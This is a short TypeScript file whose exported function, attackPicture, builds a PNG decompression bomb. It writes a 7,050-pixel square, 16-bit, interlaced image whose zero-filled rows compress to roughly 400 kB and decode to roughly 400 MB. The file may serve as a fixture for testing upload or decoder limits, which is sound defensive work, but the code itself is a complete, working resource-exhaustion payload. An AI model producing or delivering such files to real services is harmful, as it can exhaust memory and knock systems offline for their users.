import { crc32, createDeflate } from 'node:zlib'

/**
 * Pixels of each side of a picture that is small as a file and large in memory: 16 bits per
 * channel, interlaced.
 */
const SIDE = 7_050

/** The passes of an interlaced PNG, with their origins and steps (PNG specification, Adam7). */
const passes = [
  { x: 0, y: 0, stepX: 8, stepY: 8 },
  { x: 4, y: 0, stepX: 8, stepY: 8 },
  { x: 0, y: 4, stepX: 4, stepY: 8 },
  { x: 2, y: 0, stepX: 4, stepY: 4 },
  { x: 0, y: 2, stepX: 2, stepY: 4 },
  { x: 1, y: 0, stepX: 2, stepY: 2 },
  { x: 0, y: 1, stepX: 1, stepY: 2 },
]

/** Bytes of a pixel: four channels of two bytes. */
const PIXEL = 8

function chunk(type: string, data: Buffer): Buffer {
  const framed = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const check = Buffer.alloc(4)
  check.writeUInt32BE(crc32(framed))
  return Buffer.concat([length, framed, check])
}

/** Makes the file: some 400 kB that decode to 400 MB. */
export async function attackPicture(): Promise<Buffer> {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(SIDE, 0)
  head.writeUInt32BE(SIDE, 4)
  head.set([16, 6, 0, 0, 1], 8)
  const rows = passes.map(({ x, y, stepX, stepY }) => ({
    bytes: 1 + Math.ceil((SIDE - x) / stepX) * PIXEL,
    count: Math.ceil((SIDE - y) / stepY),
  }))
  const deflate = createDeflate()
  const packed: Buffer[] = []
  deflate.on('data', (part: Buffer) => packed.push(part))
  for (const { bytes, count } of rows) {
    const row = Buffer.alloc(bytes)
    for (let nth = 0; nth < count; nth += 1) {
      if (!deflate.write(row)) await new Promise((resolve) => deflate.once('drain', resolve))
    }
  }
  await new Promise((resolve) => {
    deflate.once('end', resolve)
    deflate.end()
  })
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  const data = chunk('IDAT', Buffer.concat(packed))
  return Buffer.concat([signature, chunk('IHDR', head), data, chunk('IEND', Buffer.alloc(0))])
}
